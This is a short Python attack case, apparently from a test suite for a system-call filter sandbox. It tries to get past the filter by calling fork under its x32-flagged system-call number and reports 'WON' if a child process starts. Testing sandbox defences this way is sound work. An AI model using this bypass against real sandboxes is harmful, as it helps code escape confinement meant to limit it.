"""Kind: raising rights.
Wins if the x32 numbers of system calls pass the filter by.
Defence: the filter kills on another architecture.
"""

import ctypes
import os


def attack(target):
    child = ctypes.CDLL(None).syscall(0x40000000 + 57)
    if child == 0:
        os._exit(0)
    return "WON" if child > 0 else None
